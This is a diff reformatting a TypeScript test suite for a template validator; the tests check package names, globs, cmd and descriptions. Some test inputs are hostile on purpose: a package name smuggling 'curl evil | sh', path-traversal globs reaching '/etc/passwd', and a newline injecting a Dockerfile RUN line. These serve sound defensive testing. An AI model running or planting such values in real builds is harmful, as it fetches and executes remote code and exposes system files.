@@ -19,12 +19,20 @@ function ctx(over: Partial<TemplateContext> = {}): TemplateContext {
     name: 'python',
     dir: '/project/templates/python',
     file: T,
-    files: ['Dockerfile.hbs', 'requirements.txt', 'server.py', 'skeleton/function.yml', 'skeleton/handler.py', 'template.yml'],
+    files: [
+      'Dockerfile.hbs',
+      'requirements.txt',
+      'server.py',
+      'skeleton/function.yml',
+      'skeleton/handler.py',
+      'template.yml',
+    ],
     ...over,
   };
 }
 
-const problems = (raw: unknown, over: Partial<TemplateContext> = {}): string[] => validateTemplate(raw, ctx(over)).problems.map(formatProblem);
+const problems = (raw: unknown, over: Partial<TemplateContext> = {}): string[] =>
+  validateTemplate(raw, ctx(over)).problems.map(formatProblem);
 const withFields = (extra: Record<string, unknown>): string[] => problems({ ...python, ...extra });
 
 test('the documented python template validates into TemplateMeta', () => {
@@ -51,10 +59,17 @@ test('ship and packages are optional (a compiled runtime ships no sources)', () 
 
 test('a handler in a subfolder must exist in skeleton/ at the same path', () => {
   const files = ['Dockerfile.hbs', 'skeleton/function.yml', 'skeleton/src/handler.cr'];
-  assert.equal(problems({ ...python, handler: 'src/handler.cr' }, { name: 'crystal', file: 'templates/crystal/template.yml', files }), []);
-  assert.equal(problems({ ...python, handler: 'src/main.cr' }, { name: 'crystal', file: 'templates/crystal/template.yml', files }), [
-    'templates/crystal/skeleton/src/main.cr: missing (a new function must provide the handler src/main.cr)',
-  ]);
+  assert.equal(
+    problems(
+      { ...python, handler: 'src/handler.cr' },
+      { name: 'crystal', file: 'templates/crystal/template.yml', files },
+    ),
+    [],
+  );
+  assert.equal(
+    problems({ ...python, handler: 'src/main.cr' }, { name: 'crystal', file: 'templates/crystal/template.yml', files }),
+    ['templates/crystal/skeleton/src/main.cr: missing (a new function must provide the handler src/main.cr)'],
+  );
 });
 
 test('required fields are reported together', () => {
@@ -67,8 +82,12 @@ test('required fields are reported together', () => {
 });
 
 test('unknown fields are errors, with suggestions', () => {
-  assert.equal(withFields({ helthcheck: [] }), [`${T}: helthcheck: unknown field "helthcheck" (did you mean "healthcheck"?)`]);
-  assert.equal(withFields({ runtime: 'python' }), [`${T}: runtime: unknown field "runtime" (known fields: cmd, description, handler, healthcheck, packages, ship)`]);
+  assert.equal(withFields({ helthcheck: [] }), [
+    `${T}: helthcheck: unknown field "helthcheck" (did you mean "healthcheck"?)`,
+  ]);
+  assert.equal(withFields({ runtime: 'python' }), [
+    `${T}: runtime: unknown field "runtime" (known fields: cmd, description, handler, healthcheck, packages, ship)`,
+  ]);
 });
 
 test('handler must be a safe relative path to a real file role', () => {
@@ -94,29 +113,49 @@ test('handler must be a safe relative path to a real file role', () => {
 });
 
 test('ship globs follow the same safety rules as function files', () => {
-  assert.equal(withFields({ ship: ['../../etc/**'] }), [`${T}: ship[0]: invalid glob "../../etc/**": must not contain ".." (only files inside the folder can be used)`]);
-  assert.equal(withFields({ ship: ['/etc/passwd'] }), [`${T}: ship[0]: invalid glob "/etc/passwd": must be relative (absolute paths are not allowed)`]);
-  assert.equal(withFields({ ship: '**/*.py' }), [`${T}: ship: must be a list of globs such as ["data/*.json"] (got a string)`]);
+  assert.equal(withFields({ ship: ['../../etc/**'] }), [
+    `${T}: ship[0]: invalid glob "../../etc/**": must not contain ".." (only files inside the folder can be used)`,
+  ]);
+  assert.equal(withFields({ ship: ['/etc/passwd'] }), [
+    `${T}: ship[0]: invalid glob "/etc/passwd": must be relative (absolute paths are not allowed)`,
+  ]);
+  assert.equal(withFields({ ship: '**/*.py' }), [
+    `${T}: ship: must be a list of globs such as ["data/*.json"] (got a string)`,
+  ]);
 });
 
 test('template packages follow Debian policy', () => {
   assert.equal(withFields({ packages: { build: ['python3', 'gcc; curl evil | sh'] } }), [
     `${T}: packages.build[1]: invalid Debian package name "gcc; curl evil | sh" (lower-case letters, digits and + . -, starting with a letter or digit; pin a version with "name=1.2-3")`,
   ]);
-  assert.equal(withFields({ packages: { test: [] } }), [`${T}: packages.test: unknown field "test" (known fields of packages: build, run)`]);
+  assert.equal(withFields({ packages: { test: [] } }), [
+    `${T}: packages.test: unknown field "test" (known fields of packages: build, run)`,
+  ]);
 });
 
 test('cmd and healthcheck are non-empty lists of non-empty one-line strings', () => {
-  assert.equal(withFields({ cmd: [] }), [`${T}: cmd: must be a non-empty list of strings in exec form, e.g. ["/usr/bin/python3", "/app/server.py"] (got a list)`]);
-  assert.equal(withFields({ cmd: 'python3 server.py' }), [`${T}: cmd: must be a non-empty list of strings in exec form, e.g. ["/usr/bin/python3", "/app/server.py"] (got a string)`]);
-  assert.equal(withFields({ healthcheck: ['/bin/x', ''] }), [`${T}: healthcheck[1]: must be a non-empty string (got a string)`]);
-  assert.equal(withFields({ healthcheck: ['/bin/x', 1] }), [`${T}: healthcheck[1]: must be a non-empty string (got an integer)`]);
-  assert.equal(withFields({ cmd: ['/bin/sh', '-c', 'a\nRUN b'] }), [`${T}: cmd[2]: must not contain line breaks or control characters (got "a\\nRUN b")`]);
+  assert.equal(withFields({ cmd: [] }), [
+    `${T}: cmd: must be a non-empty list of strings in exec form, e.g. ["/usr/bin/python3", "/app/server.py"] (got a list)`,
+  ]);
+  assert.equal(withFields({ cmd: 'python3 server.py' }), [
+    `${T}: cmd: must be a non-empty list of strings in exec form, e.g. ["/usr/bin/python3", "/app/server.py"] (got a string)`,
+  ]);
+  assert.equal(withFields({ healthcheck: ['/bin/x', ''] }), [
+    `${T}: healthcheck[1]: must be a non-empty string (got a string)`,
+  ]);
+  assert.equal(withFields({ healthcheck: ['/bin/x', 1] }), [
+    `${T}: healthcheck[1]: must be a non-empty string (got an integer)`,
+  ]);
+  assert.equal(withFields({ cmd: ['/bin/sh', '-c', 'a\nRUN b'] }), [
+    `${T}: cmd[2]: must not contain line breaks or control characters (got "a\\nRUN b")`,
+  ]);
 });
 
 test('description is required and one line', () => {
   assert.equal(withFields({ description: 'a\nb' }), [`${T}: description: must be a single line (no line breaks)`]);
-  assert.equal(withFields({ description: 'x'.repeat(201) }), [`${T}: description: must be at most 200 characters (got 201)`]);
+  assert.equal(withFields({ description: 'x'.repeat(201) }), [
+    `${T}: description: must be at most 200 characters (got 201)`,
+  ]);
 });
 
 test('the template folder must hold Dockerfile.hbs and a skeleton with function.yml and the handler', () => {
@@ -134,7 +173,9 @@ test('the runtime name (folder) must be a DNS label', () => {
 });
 
 test('a template.yml that is not a mapping', () => {
-  assert.equal(problems(['x']), [`${T}: must be a mapping of fields (description, handler, ship, packages, cmd, healthcheck); got a list`]);
+  assert.equal(problems(['x']), [
+    `${T}: must be a mapping of fields (description, handler, ship, packages, cmd, healthcheck); got a list`,
+  ]);
 });
 
 test.run();
